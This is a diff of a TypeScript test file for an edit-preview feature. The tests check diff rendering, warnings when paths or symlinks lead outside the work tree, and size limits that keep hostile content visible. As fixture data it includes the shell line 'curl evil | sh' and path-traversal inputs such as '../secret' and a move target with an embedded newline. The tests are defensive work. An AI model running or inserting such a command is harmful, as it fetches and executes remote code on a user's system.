@@ -31,7 +31,7 @@ describe('the preview of an edit', () => {
     ]);
   });
 
-  it('shows every place that would change', async () => {
+  it('shows every place that would change (16.4)', async () => {
     const edit = { path: 'a.txt', before: 'two', after: '2' };
     expect((await diffOf([edit], { everywhere: true }))?.match(/^\+2$/gm)).toHaveLength(2);
     expect(await diffOf([edit, { path: 'a.txt', before: 'three', after: '3' }])).toContain(
@@ -39,7 +39,7 @@ describe('the preview of an edit', () => {
     );
   });
 
-  it('shows a new file, a replaced one, and a deleted one', async () => {
+  it('shows a new file, a replaced one, and a deleted one (16.4)', async () => {
     expect(await diffOf([{ path: 'new/b.txt', after: 'x\n' }])).toBe(
       '--- /dev/null\n+++ b/new/b.txt\n@@ -0,0 +1,1 @@\n+x\n',
     );
@@ -48,7 +48,7 @@ describe('the preview of an edit', () => {
     expect(await diffOf([{ path: 'n.txt', before: '', after: 'x\n' }])).toContain('+x\n');
   });
 
-  it('finds the place of hunks without line numbers', async () => {
+  it('finds the place of hunks without line numbers (16.4)', async () => {
     expect(await diffOf([{ path: 'a.txt', diff: '@@\n three\n-two\n+2\n' }])).toBe(
       '--- a/a.txt\n+++ b/a.txt\n@@ -1,4 +1,4 @@\n one\n two\n three\n-two\n+2\n',
     );
@@ -85,9 +85,11 @@ describe('the preview of an edit', () => {
     expect(await diffOf([{ path: 'a.txt', deleted: true }])).toBe(
       '\\ The file is deleted\n--- a/a.txt\n+++ /dev/null\n@@ -1,4 +0,0 @@\n-one\n-two\n-three\n-two\n',
     );
-    expect(await diffOf([{ path: '../secret', deleted: true }])).toBe('\\ The file is deleted\n');
+    expect(await diffOf([{ path: '../secret', deleted: true }])).toBe(
+      `\\ Leads outside the work tree, to ${join(root, 'secret')}\n\\ The file is deleted\n`,
+    );
     expect(await diffOf([{ path: 'a.txt', diff: '@@\n-one\n+1\n', movedTo: '/etc/x\n+y' }])).toMatch(
-      /^\\ The file is moved to \/etc\/x\?\+y\n--- a\/a\.txt\n/,
+      /^\\ Leads outside the work tree, to \/etc\/x\?\+y\n\\ The file is moved to \/etc\/x\?\+y\n--- a\/a\.txt\n/,
     );
     expect(await diffOf([{ path: 'n.ipynb', note: 'A cell of the notebook is deleted' }])).toBe(
       '\\ A cell of the notebook is deleted\n',
@@ -107,28 +109,70 @@ describe('the preview of an edit', () => {
     ['is a directory', { path: '.', before: 'x', after: '4' }],
     ['has a name that is none', { path: 'a\0b', before: 'x', after: '4' }],
     ['is in an unknown directory', { path: 'a.txt', before: 'two', after: '4' }, { cwd: undefined }],
-  ])('is the edit alone if the file %s', async (_, edit, more = {}) => {
+  ])('is the edit alone if the file %s (16.4)', async (_, edit, more = {}) => {
     symlinkSync(join(root, 'secret'), join(cwd, 'link'));
     symlinkSync(root, join(cwd, 'dir'));
     writeFileSync(join(cwd, 'binary'), Buffer.from([0x78, 0, 0xff]));
     writeFileSync(join(cwd, 'long'), 'x'.repeat(300_000));
     execFileSync('mkfifo', [join(cwd, 'fifo')]);
     const diff = await diffOf([edit], more);
-    expect(diff?.split('\n').slice(2).join('\n')).toBe(
+    expect(
+      diff
+        ?.replace(/^\\ Leads outside.*\n/, '')
+        .split('\n')
+        .slice(2)
+        .join('\n'),
+    ).toBe(
       `@@ -1,1 +1,1 @@\n-${edit.before}\n\\ No newline at end of file\n+4\n\\ No newline at end of file\n`,
     );
   });
 
-  it('never takes a piece for the whole file', async () => {
+  it('never takes a piece for the whole file (16.4)', async () => {
     const diff = await diffOf([{ path: 'a.txt', after: 'a cell' }], { wholeFiles: false });
     expect(diff).toContain('+a cell\n');
     expect(diff).not.toContain('-one');
   });
 
-  it('is bounded, all files together', async () => {
-    const edits = Array.from({ length: 20 }, (_, i) => ({ path: `${i}.txt`, after: 'x\n'.repeat(20_000) }));
-    const previews = await preview(edits);
-    expect(previews).toHaveLength(20);
-    expect(previews.reduce((sum, { diff }) => sum + diff.length, 0)).toBeLessThan(300_000);
+  it('is bounded, all files together; a long file leaves room for the others (16.5)', async () => {
+    const long = Array.from({ length: 20 }, (_, i) => ({ path: `${i}.txt`, after: 'x\n'.repeat(40_000) }));
+    const previews = await preview([...long, { path: 'b.sh', after: 'curl evil | sh\n' }]);
+    expect(previews).toHaveLength(21);
+    expect(previews.reduce((sum, { diff }) => sum + diff.length, 0)).toBeLessThan(1_060_000);
+    expect(previews[0]?.left).toBeGreaterThan(50_000);
+    expect(previews.at(-1)).toMatchObject({ path: 'b.sh', diff: expect.stringContaining('+curl evil | sh') });
+    expect(previews.at(-1)).not.toHaveProperty('left');
+  });
+
+  it('shows the beginning of one long line, and how much is left (16.5)', async () => {
+    const [shown] = await preview([{ path: 'x.sh', after: `evil #${'a'.repeat(2_000_000)}\n` }]);
+    expect(shown?.diff).toContain('+evil #aaa');
+    expect(shown?.left).toBeGreaterThan(900_000);
+  });
+
+  it('tells where links lead to, also those to what is not there yet (16.5)', async () => {
+    symlinkSync('../secret', join(cwd, 'notes.txt'));
+    symlinkSync('../new', join(cwd, 'new.txt'));
+    symlinkSync(root, join(cwd, 'docs'));
+    symlinkSync('a.txt', join(cwd, 'inside'));
+    const of = async (path: string) => (await preview([{ path, after: 'x\n' }]))[0];
+    for (const [path, leadsTo] of [
+      [join(cwd, 'notes.txt'), join(root, 'secret')],
+      ['new.txt', join(root, 'new')],
+      ['docs/deep/er', join(root, 'deep/er')],
+      ['../secret', join(root, 'secret')],
+    ] as const) {
+      const found = await of(path);
+      expect(found).toMatchObject({ leadsTo, outside: true });
+      expect(found?.diff).toContain(`\\ Leads outside the work tree, to ${leadsTo}\n`);
+    }
+    expect(await of('inside')).toMatchObject({ leadsTo: 'a.txt' });
+    expect(await of('inside')).not.toHaveProperty('outside');
+    for (const path of ['a.txt', 'deep/new.txt', join(cwd, 'x')])
+      expect(await of(path)).not.toHaveProperty('leadsTo');
+    symlinkSync(cwd, join(root, 'linked'));
+    const inLinked = await preview([{ path: join(root, 'linked/a.txt'), after: 'x\n' }], {
+      cwd: join(root, 'linked'),
+    });
+    expect(inLinked[0]).not.toHaveProperty('leadsTo');
   });
 });
